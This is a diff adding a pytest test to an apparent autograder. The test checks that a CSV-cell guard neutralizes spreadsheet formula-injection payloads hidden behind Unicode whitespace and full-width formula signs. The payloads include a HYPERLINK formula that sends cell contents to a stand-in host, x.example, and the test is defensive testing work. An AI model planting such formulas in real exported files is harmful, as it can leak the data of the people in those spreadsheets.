@@ -125,6 +125,37 @@ def test_late_policy_and_neutral_csv(tmp_path):
     assert "\n\"plain\",1\n" in text.replace("\r\n", "\n")
 
 
+# Every character a spreadsheet may skip before a formula: Unicode whitespace, and the invisible
+# format characters (zero-width space, BOM) that an editor lets through.
+_LEADING = [chr(c) for c in range(0x3001) if chr(c).isspace()] + ["\u200b", "\ufeff", "\u2060"]
+_FORMULA = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+def _read_as_formula(cell: str) -> bool:
+    """What a spreadsheet does with a text field: leading blanks skipped, then a formula sign."""
+    return cell.lstrip("".join(_LEADING))[:1] in _FORMULA
+
+
+def test_csv_guard_sees_through_leading_whitespace(tmp_path):
+    from autograder.grader.grades import write_csv
+    from autograder.grader.safety import csv_cell
+    assert len(_LEADING) > 25 and "\t" in _LEADING and "\u00a0" in _LEADING and "\u3000" in _LEADING
+    attacks = [lead + sign + 'HYPERLINK("http://x.example/?"&A1,"open")'
+               for lead in ["", *_LEADING, "\t \u00a0", "\r\n"] for sign in _FORMULA]
+    escaped = [a for a in attacks if _read_as_formula(csv_cell(a))]
+    assert escaped == [], f"{len(escaped)} formulas escape the guard, e.g. {escaped[:3]!r}"
+    assert all("HYPERLINK" in csv_cell(a) for a in attacks)           # shown, not dropped
+    # the tab of the issue: it becomes a space, and the formula behind it is still neutralized
+    assert csv_cell("\t=HYPERLINK(1)").startswith("'")
+    for text in ("plain", " leading space", "a=b", "x-1", "\u00a0text"):
+        assert csv_cell(text) == text                                   # ordinary text unchanged
+    # through the CSV writer and back, as a spreadsheet reads the file
+    rows = [[a, 1] for a in attacks]
+    dest = write_csv(tmp_path / "x.csv", ["name", "score"], rows)
+    read = _rows(dest)
+    assert len(read) == len(attacks) and not [r["name"] for r in read if _read_as_formula(r["name"])]
+
+
 # ---- the whole term: grade, written answers, export -------------------------------------------------
 
 @pytest.fixture(scope="module")
